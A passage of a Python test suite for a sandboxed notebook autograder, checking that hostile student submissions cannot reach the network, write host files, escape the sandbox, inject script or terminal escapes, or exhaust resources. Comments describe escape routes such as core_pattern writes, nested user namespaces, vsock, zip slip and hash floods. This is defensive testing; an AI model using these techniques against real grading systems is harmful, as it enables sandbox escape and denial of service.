    assert graded.grades_text == graded.grades_later and "killer,02-elmo,7" not in graded.grades_text
    leftovers = sorted(str(p) for d in (Path("/tmp"), ctx.home, ctx.root, ROOT) for p in d.glob(f"{ctx.mark}*"))
    # unsafe: files written by student code on the host (the sandbox's /tmp and $HOME are its own)
    assert not leftovers, leftovers
    assert not Path(f"/{ctx.mark}-root").exists()


# --- 5. escapes and limits ------------------------------------------------------------------------


def test_no_network_not_even_loopback(graded):
    text = page_text(graded.ctx, "exfil", "01-word2vec")
    assert "NET-REFUSED 127.0.0.1" in text, "the network attack ran"
    # unsafe: the sandbox reached a socket of the host (loopback, its addresses, an abstract socket)
    assert not graded.connections, graded.connections
    assert not [line for line in text.splitlines() if line.startswith("NET-CONNECTED")], text


def test_host_files_are_out_of_reach(graded):
    ctx = graded.ctx
    text = page_text(ctx, "exfil", "01-word2vec")
    assert [line for line in text.splitlines() if line.startswith(("WRITE-OK", "WRITE-DENIED"))], "the attack ran"
    # unsafe: writes to the host's /tmp, $HOME, the course, the repository or / (inside, some of these
    # "work": they land in the sandbox's own throw-away root)
    for path in (
        f"/tmp/{ctx.mark}-tmp",
        ctx.home / f"{ctx.mark}-home",
        ctx.root / f"{ctx.mark}-course",
        ROOT / f"{ctx.mark}-repo",
        f"/{ctx.mark}-root",
    ):
        assert not Path(path).exists(), path
    feedback = ctx.root / "feedback" / "honest-01" / "01-word2vec" / "01-word2vec.html"
    assert '{"cells": []}' not in feedback.read_text(encoding="utf-8"), "a classmate's feedback was overwritten"


def test_limits_hold_and_the_probes_cost_only_themselves(graded):
    text = page_text(graded.ctx, "probe", "03-gpt")
    info, forks = probe(text, "info"), probe(text, "forks")
    memory, disk = probe(text, "memory"), probe(text, "disk")
    print(
        "\nmeasured in the sandbox:",
        json.dumps({"info": info, "forks": forks, "memory": memory, "disk": disk}, indent=1),
    )
    # unsafe: root inside, the host's processes or files in view
    assert info["uid"] == 65534 and info["euid"] == 65534
    assert info["cap_eff"] == ["0000000000000000"], info["cap_eff"]
    assert len(info["proc_pids"]) <= 4, info["proc_pids"]
    # /work holds only the way to the checkout (bound for its .venv): its first folder, the checkout itself when it
    # lies directly in /work (/work/main) or a folder above it (/work/ci0zO3 for /work/ci0zO3/p); nothing where the
    # checkout lives elsewhere
    work = Path("/work")
    expected = [ROOT.relative_to(work).parts[0]] if ROOT.is_relative_to(work) else "FileNotFoundError"
    assert info["work"] == expected, info["work"]
    assert forks["forks"] < 200, forks  # unsafe: a fork bomb runs the machine out of processes
    assert memory["mb"] <= 2048 and memory["killed_by"] == signal.SIGKILL, memory  # unsafe: 4 GB granted
    assert disk["one_file"]["bytes"] == 64 * 2**20 and "too large" in disk["one_file"]["error"], disk
    for folder in ("/home/student", "/tmp", "/dev/shm"):  # unsafe: 2 GB of scratch space (RAM) each
        assert disk[folder]["bytes"] <= 256 * 2**20 and "No space" in disk[folder]["error"], disk
    for folder in ("/work/main/.venv", "/usr"):  # unsafe: the host's Python installation writable
        assert disk[folder]["bytes"] == 0 and (
            "Read-only" in disk[folder]["error"] or "No such file" in disk[folder]["error"]
        ), disk
    row = graded.grades[("probe", "03-gpt")]
    # unsafe: a probe that hits a limit takes the answers' marks with it
    assert float(row["score"]) == full("03-gpt"), row


def test_only_the_scratch_folders_are_writable(graded):
    disk = probe(page_text(graded.ctx, "probe", "03-gpt"), "disk")
    # unsafe (low): bwrap's own root tmpfs stays writable, without the scratch_mb cap: / (and every
    # folder made for a mount point, /opt/word2bert-sandbox, /work/main, /root...) takes files until
    # the memory cgroup stops it, and a student sees writes to "the gradebook" there succeed
    for folder in ("/", "/opt/word2bert-sandbox"):
        assert disk[folder]["bytes"] == 0, f"{folder} took {disk[folder]['bytes'] / 2**20:.0f} MB"


def test_the_kernel_attack_surface_is_narrowed(graded):
    kernel = probe(page_text(graded.ctx, "probe", "03-gpt"), "kernel")
    print("\nkernel surface from the sandbox:", kernel)
    problems = []
    # unsafe (hardening): no seccomp filter and nested user namespaces allowed: student code becomes
    # uid 0 with every capability in a namespace of its own and reaches mount, netfilter, io_uring,
    # bpf... the kernel code that container escapes go through; and the sandbox's uid is the grader's
    # own outside (root here), so any such escape is root on the grading machine
    if isinstance(kernel["nested_userns"], dict):
        problems.append(f"nested user namespace: {kernel['nested_userns']}, mount: {kernel.get('nested_mount')}")
    reachable = [
        k
        for k in ("io_uring_setup", "bpf", "perf_event_open")
        if kernel[k] not in ("Function not implemented", "Operation not permitted")
    ]
    if reachable:
        problems.append(f"reachable system calls: {reachable}")
    assert not problems, problems


def test_no_socket_reaches_a_virtual_machines_host(graded):
    kernel = probe(page_text(graded.ctx, "probe", "03-gpt"), "kernel")
    # unsafe: socket(AF_VSOCK) works in the sandbox, and no network namespace isolates it: on a virtual machine
    # (these machines have /dev/vsock) student code can connect to the services of the host outside it
    assert kernel["vsock"] != "created", kernel


def test_nothing_in_a_sandbox_runs_as_host_root_or_changes_the_host(graded):
    kernel = probe(page_text(graded.ctx, "probe", "03-gpt"), "kernel")
    # unsafe: bubblewrap started by root maps the student to host uid 0, and /proc/sys is writable: a write to
    # kernel.core_pattern (a pipe to a program) runs that program as root on the host's next crash
    assert kernel["proc_writable"] == [], kernel["proc_writable"]
    # unsafe: inotify instances are a per-user quota (128) shared with the grader's user
    assert kernel["inotify"] == "Operation not permitted", kernel["inotify"]
    # unsafe: Linux AIO contexts and pseudo-terminals are quotas of the whole machine, not of a user (a uid of the
    # sandbox's own does not help): io_setup took 4,096 of the machine's 65,536 (fs.aio-max-nr) in one call, and
    # /dev/ptmx opened; a daemon could hold them all while the submission is graded
    assert kernel["io_setup"] == "Operation not permitted", kernel["io_setup"]
    assert kernel["ptmx"] != "opened", kernel["ptmx"]
    uids = graded.sandbox_uids
    assert uids, "the watcher saw no sandbox"
    assert 0 not in uids, f"a sandbox process ran as host root: {sorted(uids)}"
    if os.geteuid() == 0:  # each sandbox its own unprivileged uid: no per-user quota is shared with root or another
        assert all(u >= 0x70000000 for u in uids) and len(uids) >= 2, sorted(uids)
    else:
        assert uids == {os.geteuid()}, sorted(uids)


def test_text_no_file_can_hold_costs_only_its_own_answers(graded):
    row = graded.grades[("surrogate", "01-word2vec")]
    # unsafe: writing its outputs raised UnicodeEncodeError and stopped the class: no grades.csv at all
    assert row["status"] == "graded" and float(row["score"]) == full("01-word2vec"), row
    page = graded.ctx.root / "feedback" / "surrogate" / "01-word2vec" / "01-word2vec.html"
    text = page.read_bytes().decode("utf-8")  # valid UTF-8
    assert "done?" in text and "bad ?" in text and "notes ? end" in text, "shown, with the character replaced"
    json.loads((graded.ctx.root / "autograded" / "surrogate" / "01-word2vec" / "01-word2vec.ipynb").read_bytes())
    # a submission folder whose name is not text (bytes that are not UTF-8) gets a row under a name that is
    bad = graded.grades[("bad-?-name", "01-word2vec")]
    assert bad["status"] == "failed" and "name is not text" in bad["reason"], bad


def _seconds(root: Path, student: str, assignment: str) -> float:
    for path in (root / ".grading-cache").glob("*.json"):
        try:
            r = json.loads(path.read_text(encoding="utf-8"))
        except ValueError:
            continue
        if isinstance(r, dict) and (r.get("student"), r.get("assignment")) == (student, assignment):
            return r["seconds"]
    raise AssertionError(f"no cached result for {student}/{assignment}")


def test_work_after_the_tests_is_bounded(graded):
    row = graded.grades[("bomb", "03-gpt")]
    assert row["status"] == "graded" and float(row["score"]) == full("03-gpt"), row
    bomb, honest = _seconds(graded.ctx.root, "bomb", "03-gpt"), _seconds(graded.ctx.root, "honest-03", "03-gpt")
    # unsafe: 4,000 link definitions take markdown-it 46 s, four nested-tag outputs take html5lib 100 s, after the
    # grader's time limit was switched off
    assert bomb < 2 * honest + 60, (bomb, honest)
    root = graded.ctx.root
    for path in (
        root / "autograded" / "bomb" / "03-gpt" / "03-gpt.ipynb",
        root / "feedback" / "bomb" / "03-gpt" / "03-gpt.html",
    ):
        # unsafe: each output grows 250 times when cleaned: a 16 MB graded copy and cache entry
        assert path.stat().st_size < 3_000_000, (path, path.stat().st_size)
    page = page_text(graded.ctx, "bomb", "03-gpt")
    assert "[a3999]: b" in page, "the written answer is shown whole, as text"


def test_a_scratch_cell_that_redefines_an_answer_later_changes_no_earlier_test(graded):
    row = graded.grades[("scratch", "01-word2vec")]
    # unsafe: the tests saw the last definition (13/17) and the summary said "tampering suspected"
    assert float(row["score"]) == full("01-word2vec") and "tampering" not in row["reason"], row


def test_a_time_limit_in_the_graders_run_is_no_evidence_of_tampering(graded):
    row = graded.grades[("slowcall", "01-word2vec")]
    # unsafe: a correct answer that passed the visible test in the kernel and ran past the limit in the grader's run of
    # it (as honest work near the limit does on a loaded machine) was reported as "tampering suspected"
    assert row["status"] == "graded" and "tampering" not in row["reason"], row
    assert cell_scores(graded, "slowcall", "01-word2vec", "test_noise_distribution_visible") == 0, "the limit holds"


def test_data_built_to_collide_costs_only_its_own_answers(graded):
    honest = _seconds(graded.ctx.root, "honest-01", "01-word2vec")
    for student, answer in (("hashflood", "test_sgns_loss"), ("pairflood", "test_skipgram_pairs")):
        row = graded.grades[(student, "01-word2vec")]
        # unsafe: building the reply's dict (or the test's dict of the answer's pairs) takes the grader hours; grading
        # stops at the whole submission's limit (23 min of a worker), 0 points, and every later run spends it again
        assert row["status"] == "graded", row
        assert cell_scores(graded, student, "01-word2vec", answer) == 0
        assert _seconds(graded.ctx.root, student, "01-word2vec") < 2 * honest + 60, (student, honest)


def test_restarts_that_replay_slow_cells_are_bounded_and_kept(graded):
    run = graded.side["replay"]
    assert run["rc"] == 0 and not run["timed_out"], run["stdout"][-2000:] + run["stderr"][-2000:]
    root = run["root"]
    row = _read_grades(root)[0][("replayer", "01-word2vec")]
    # unsafe: 8 restarts, each replaying the student's slow cells, outlast the whole submission's limit: 0 points,
    # and a result that is not kept, so every later run spends the whole limit (23 min of a worker) again. This
    # course's budgets are shrunk (30 s of the student's own cells, 40 s of replays) to keep the run short.
    assert row["status"] == "graded" and "running your cells again" in row["reason"], row
    assert _seconds(root, "replayer", "01-word2vec") < 200  # a cached result (kept): the next run reuses it


def test_a_forged_reply_cannot_blow_up_the_grader(graded):
    # unsafe: one 64 MB tensor referenced 64 times in a reply is cloned 64 times by the grader's
    # decoder: 4 GB in the trusted process (with 256 MB frames, far more), beside every other worker
    print(f"\npeak RSS of a grader process: {graded.peak_rss / 2**20:.0f} MB ({graded.peak_cmd})")
    assert score(graded, "hooks", "01-word2vec") == 0
    assert graded.peak_rss < GRADER_RSS_LIMIT, f"a grader process reached {graded.peak_rss / 2**30:.1f} GB"


def test_a_result_that_needs_gigabytes_in_the_graders_arithmetic_fails_its_own_test(graded):
    # unsafe: the grader's process has no memory cap, dies, and takes the other submissions of its pool with it
    row = graded.grades[("bomber", "03-gpt")]
    assert row["status"] == "graded", row
    assert cell_scores(graded, "bomber", "03-gpt", "test_multi_head_causal_attention_checkpoint") == 0
    assert 0 < float(row["score"]) < full("03-gpt"), "its correct answers count, its broken one does not"
    graded_copy = graded.ctx.root / "autograded" / "bomber" / "03-gpt" / "03-gpt.ipynb"
    assert "can't allocate memory" in graded_copy.read_text(encoding="utf-8")


def test_answers_that_write_into_the_tests_tensors_score_nothing_for_it(graded):
    # unsafe: the grader writes what the student's code did to its arguments back into the test's tensors, and
    # the test then scores with the tensors the wrong answer rewrote
    assert cell_scores(graded, "viewmix", "02-elmo", "test_ScalarMix_sense_probe") == 0
    assert cell_scores(graded, "nucleus", "03-gpt", "test_gpt_writes_samples") == 0


def formgrader_page(notebook: Path) -> str:
    """The page formgrader serves for an autograded notebook: nbgrader's handler, its exporter settings."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {
        "assignment_id": "03-gpt",
        "notebook_id": "03-gpt",
        "submission_id": "x",
        "index": 0,
        "total": 1,
        "base_url": "/",
        "student": "xss",
        "last_name": "",
        "first_name": "",
        "notebook_path": "autograded/xss/03-gpt/03-gpt.ipynb",
    }
    page, _ = HTMLExporter(config=config).from_filename(str(notebook), resources=resources)
    return page


def test_no_script_of_a_student_runs_in_the_instructors_formgrader(graded):
    page = formgrader_page(graded.ctx.root / "autograded" / "xss" / "03-gpt" / "03-gpt.ipynb")
    assert "The mask hides the future." in page, "the written answer is shown, for grading by hand"
    # unsafe: the student's markdown, written answer or outputs reach formgrader as live HTML: a script that runs
    # with the instructor's Jupyter session (it can set scores through formgrader's API, or start a kernel)
    scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", page, re.S)
    live = [s for s in scripts if "xss" in s] + re.findall(r"<[^>]+\bon\w+\s*=[^>]*xss", page)
    live += re.findall(r"href\s*=\s*[\"']?javascript:", page)
    assert not live, live[:3]
    row = graded.grades[("xss", "03-gpt")]
    assert row["status"] == "graded" and float(row["score"]) == full("03-gpt"), row


def test_many_printing_cells_are_capped(graded):
    row = graded.grades[("flood", "01-word2vec")]
    assert float(row["score"]) == 0
    graded_nb = graded.ctx.root / "autograded" / "flood" / "01-word2vec" / "01-word2vec.ipynb"
    page = graded.ctx.root / "feedback" / "flood" / "01-word2vec" / "01-word2vec.html"
    assert page.stat().st_size < 3_000_000, "the feedback page has a size cap"
    problems = []
    # unsafe: 800 cells of 30 kB each: the instructor's graded copy grows with the number of cells
    # (16 MB here; a 64 MB notebook holds a million such cells)
    if graded_nb.stat().st_size > 10_000_000:
        problems.append(f"an autograded copy of {graded_nb.stat().st_size / 2**20:.0f} MB")
    # unsafe: one note per cell: "printed too much" 800 times in grades.csv and the summary
    if len(row["reason"]) > 5_000:
        problems.append(f"a reason of {len(row['reason']):,} characters in grades.csv")
    assert not problems, problems


def test_student_text_cannot_drive_the_instructors_terminal(graded):
    out = graded.run["stdout"] + graded.run["stderr"]
    # unsafe: escape sequences from a student's cell (a note) or the sandbox's stderr (a death message)
    # reach the summary printed on the instructor's terminal: clear the screen, move the cursor up and
    # erase the "Tampering suspected" lines, set the window title...
    assert "\x1b" not in out, [line for line in out.splitlines() if "\x1b" in line][:3]
    assert "\x1b" not in graded.grades_text
    # unsafe: text of the student's choosing presented as the grader's reason ("bubblewrap could not
    # start: ... run again with --unsafe-no-sandbox")
    assert "FAKE-REASON" not in out and "FAKE-REASON" not in graded.grades_text


def test_a_sandbox_that_stops_reading_cannot_hang_the_grader(graded):
    run = graded.side["stall"]
    # unsafe: the grader blocks in write() on a full pipe; only the whole-submission backstop (400 s
    # for this notebook) ends it, a worker lost that long per such submission
    assert not run["timed_out"], f"grading one submission took more than {STALL_LIMIT} s"
    grades, _ = _read_grades(stall_root := graded.ctx.root.parent / "stall")
    assert ("stall", "03-gpt") in grades, stall_root


def test_download_names_cannot_drive_the_instructors_terminal(graded):
    run = graded.side["nothing"]
    out = run["stdout"] + run["stderr"]
    assert run["rc"] == 0 and "No submissions found" in out, out[-2000:]
    # unsafe: a run that collects nothing prints the downloads' problems as they are, and a zip member's name
    # clears the instructor's screen and sets the window's title
    assert "\x1b" not in out, [line for line in out.splitlines() if "\x1b" in line][:3]
    assert "notes.txt: ignored" in out, out[-2000:]  # the problem is still reported


# --- 6. LMS downloads -----------------------------------------------------------------------------


def test_downloads_are_collected_safely(graded):
    g = graded
    # unsafe: a zip member with "../" written outside submitted/
    assert not Path(f"/tmp/{g.ctx.mark}-zipslip_01-word2vec.ipynb").exists()
    row = g.grades[("zipslip", "01-word2vec")]
    assert row["status"] == "failed" and "'..'" in row["reason"], row
    # unsafe: of two downloads without attempt timestamps, one silently wins
    row = g.grades[("twice", "01-word2vec")]
    assert row["status"] == "failed" and "conflict" in row["reason"], row
    # unsafe: a member named after another student replaces that student's work
    assert score(g, "mallory", "01-word2vec") == 0
    assert score(g, "honest-01", "01-word2vec") == full("01-word2vec")


# --- 7. fragile cases -----------------------------------------------------------------------------


def test_a_cell_that_ignores_sigint_costs_only_its_own_tests(graded):
    row = graded.grades[("sigint", "02-elmo")]
    # unsafe: the loop hangs the grader, or costs the ScalarMix marks too
    scalar_mix = sum(v for k, v in grade_cells("02-elmo").items() if k.startswith("test_ScalarMix"))
    assert cell_scores(graded, "sigint", "02-elmo", "test_ScalarMix") == scalar_mix
    assert cell_scores(graded, "sigint", "02-elmo", "test_Highway") == 0
    assert "limit" in row["reason"], row


def test_edited_test_metadata_changes_no_points(graded):
    row = graded.grades[("metadata", "01-word2vec")]
    got = graded.cells[("metadata", "01-word2vec")]
    # unsafe: points taken from the submission (100 for sgns_loss_visible), a test dropped by a
    # renamed id or a removed grade flag, a test counted twice
    written = sum(grade_cells("01-word2vec", written=True).values())
    assert float(row["max_score"]) == full("01-word2vec") + written and float(row["score"]) == full("01-word2vec"), row
    assert got["cells"] == grade_cells("01-word2vec"), got


def test_odd_cell_metadata_is_just_a_student_cell(graded):
    row = graded.grades[("badmeta", "01-word2vec")]
    # unsafe: a scratch cell whose nbgrader grade_id is a list (JSON allows it) makes the grader crash
    # on the whole submission ("the grader failed: TypeError: unhashable type"), and correct answers
    # score 0 (a fault reported as transient, so every run grades it again)
    assert row["status"] == "graded" and float(row["score"]) == full("01-word2vec"), row


def test_a_gradebook_damaged_past_its_schema_is_refused_and_kept(tmp_path, monkeypatch):
    """A gradebook.db whose schema page reads but whose later pages are damaged (a disk error, a bad copy) stops the
    run with the refusal's message and is left as it was."""
    from word2bert_grader.outputs import gradebook

    monkeypatch.setenv("PATH", f"{ROOT / '.venv' / 'bin'}:{os.environ.get('PATH', '/usr/bin:/bin')}")  # alembic
    root = course(tmp_path / "course")
    db = root / "gradebook.db"
    gradebook.prepare(root, ["01-word2vec"], db)
    damaged = bytearray(db.read_bytes())
    middle = len(damaged) // 2
    damaged[middle : middle + 4096] = b"\xab" * 4096
    db.write_bytes(bytes(damaged))
    # unsafe: the schema check passes, and nbgrader's generate_assignment exits with its traceback
    with pytest.raises(gradebook.RefusedGradebook, match="cannot be read as a gradebook"):
        gradebook.prepare(root, ["01-word2vec"], db)
    assert db.read_bytes() == damaged, "the instructor's gradebook is left as it was"


def test_autograde_stops_on_a_refused_gradebook_with_the_message_alone(tmp_path):
    """`make autograde`'s command, on a gradebook.db it refuses: the refusal's message and a failed exit, no traceback,
    and the instructor's file as it was."""
    root = course(tmp_path / "course")
    write(root, "alice", "01-word2vec", release_nb("01-word2vec"))
    garbage = b"\x00" * 100 + b"not a database"
    (root / "gradebook.db").write_bytes(garbage)
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}:{os.environ.get('PATH', '/usr/bin:/bin')}"}
    run = subprocess.run(
        [sys.executable, "-m", "word2bert_grader", "--root", str(root), "autograde", "--jobs", "1"],
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )
    # unsafe: RefusedGradebook reaches the instructor as a Python traceback of the grader's own code
    assert run.returncode != 0, run.stdout[-2000:]
    assert "cannot be read as a gradebook" in run.stderr, run.stderr[-2000:]
    assert "Traceback" not in run.stderr, run.stderr[-2000:]
    assert (root / "gradebook.db").read_bytes() == garbage
    assert not (root / "grades.csv").exists()
